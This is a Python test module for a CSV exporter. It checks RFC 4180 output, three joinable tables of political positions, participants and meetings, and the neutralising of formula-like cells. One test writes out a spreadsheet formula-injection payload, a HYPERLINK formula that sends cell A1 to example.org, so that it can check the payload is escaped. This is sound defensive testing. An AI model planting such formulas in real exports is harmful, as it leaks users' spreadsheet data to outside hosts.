"""CSV: RFC 4180, three tables that join, no cell that a spreadsheet would run."""

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.formats import render, stream
from service.formats.delimited import safe
from service.formats.tables import KEYS, TABLES

_TREATED = re.compile("'+[=+\\-@\t\r\n＝＋－＠]")
_LINE = re.compile(rb'(?:(?:[^",\r\n]*|"(?:[^"]|"")*")(?:,|\r\n))*')
"""RFC 4180's grammar: fields without quotation marks, commas and line ends, or quoted with marks doubled."""


def table(record: dict[str, Any], rows: str) -> list[dict[str, str]]:
    text = render(record, "csv", rows=rows).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("rows", TABLES)
def test_the_bytes_follow_the_grammar(real: dict[str, Any], rows: str) -> None:
    data = render(real, "csv", rows=rows)
    assert _LINE.fullmatch(data)
    lines = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
    assert lines[0] == list(TABLES[rows].columns)
    assert {len(line) for line in lines} == {len(lines[0])}


@pytest.mark.parametrize("rows", TABLES)
def test_rows_have_the_columns_of_their_table(record: dict[str, Any], rows: str) -> None:
    found = list(TABLES[rows].rows(record))
    assert found
    for row in found:
        assert list(row) == list(TABLES[rows].columns)


def test_positions_are_the_default_and_none_is_lost(real: dict[str, Any]) -> None:
    assert render(real, "csv") == render(real, "csv", rows="positions")
    found = table(real, "positions")
    assert [(row["holder_id"], row["stance"], row["statement"]) for row in found] == [
        (one["stakeholder"]["id"], one["stance"], one["statement"]) for one in real["positions"]
    ]
    assert [int(row["position"]) for row in found] == list(range(1, len(found) + 1))


def test_what_a_position_says_of_its_actors_and_its_issue(record: dict[str, Any]) -> None:
    (row,) = table(record, "positions")
    assert (row["holder"], row["holder_role"], row["holder_country"]) == ("Rufus Firefly", "President", "FDN")
    assert (row["target"], row["target_kind"], row["target_country"]) == ("Sylvania", "state", "SYV")
    assert (row["issue_category"], row["on_agenda"], row["source"]) == ("economy.trade", "true", "")
    (position,) = record["positions"]
    assert float(row["confidence"]) == position["confidence"]
    assert int(row["evidence_end"]) - int(row["evidence_start"]) == len(position["statement"])


def test_every_participant_of_every_meeting_has_a_row(planned: dict[str, Any]) -> None:
    found = table(planned, "participants")
    wanted = [(0, planned["participants"])] + [
        (number, other["participants"]) for number, other in enumerate(planned["other_meetings"], start=1)
    ]
    assert [(int(row["meeting"]), row["name"], row["capacity"]) for row in found] == [
        (number, one["name"], one["capacity"]) for number, everyone in wanted for one in everyone
    ]
    assert (found[0]["meeting_status"], found[0]["meeting_start"]) == ("planned", "2026-03-17")


def test_every_meeting_has_a_row(planned: dict[str, Any]) -> None:
    found = table(planned, "meetings")
    assert [row["status"] for row in found] == [
        "planned",
        *(one["meeting"]["status"] for one in planned["other_meetings"]),
    ]
    main = found[0]
    assert (main["place"], main["country"], main["start"], main["participants"]) == (
        "Ottawa",
        "CAN",
        "2026-03-17",
        "2",
    )
    assert float(main["longitude"]) == planned["location"]["longitude"] < 0


def test_the_tables_join(planned: dict[str, Any]) -> None:
    planned["article"]["url"] = "https://example.org/1"
    planned["meeting"]["id"] = "m-1"
    for rows in TABLES:
        first = table(planned, rows)[0]
        assert [first[name] for name in KEYS] == [
            planned["article"]["sha256"],
            "https://example.org/1",
            planned["article"]["title"],
            "2026-03-12",
            "m-1",
        ]


def test_a_record_without_meeting_leaves_the_cell_empty() -> None:
    from tests.formats.conftest import golden

    none = golden("no-meeting")
    assert {row["meeting_id"] for row in table(none, "positions")} == {""}
    assert table(none, "meetings") == []


def test_one_header_for_many_records(planned: dict[str, Any], call: dict[str, Any]) -> None:
    lines = b"".join(stream([planned, call], "csv")).split(b"\r\n")
    assert len(lines) == 1 + len(planned["positions"]) + len(call["positions"]) + 1
    assert sum(line.startswith(b"article_sha256") for line in lines) == 1


@pytest.mark.parametrize("sign", list("=+-@\t\r\n＝＋－＠"))
def test_a_cell_that_begins_like_a_formula_is_made_safe(record: dict[str, Any], sign: str) -> None:
    text = f'{sign}HYPERLINK("http://example.org/?"&A1)'
    record["positions"][0]["statement"] = text
    record["article"]["title"] = text
    (row,) = table(record, "positions")
    assert row["statement"] == row["article_title"] == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=b", "'tis", " =1", "“-”", "1-2"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(st.text() | st.from_regex("'{0,3}[=+\\-@\t\r]x?", fullmatch=True))
def test_what_was_there_can_be_had_back(text: str) -> None:
    cell = safe(text)
    assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert (cell[1:] if _TREATED.match(cell) else cell) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_comes_back_from_the_file(text: str) -> None:
    from tests.formats.conftest import golden

    record = golden("phone-call")
    record["positions"][0]["statement"] = text
    assert table(record, "positions")[0]["statement"] == safe(text)
    assert len(table(record, "positions")) == len(record["positions"])


def test_numbers_keep_their_sign(record: dict[str, Any]) -> None:
    record["positions"][0]["polarity"] = -1
    assert table(record, "positions")[0]["polarity"] == "-1"
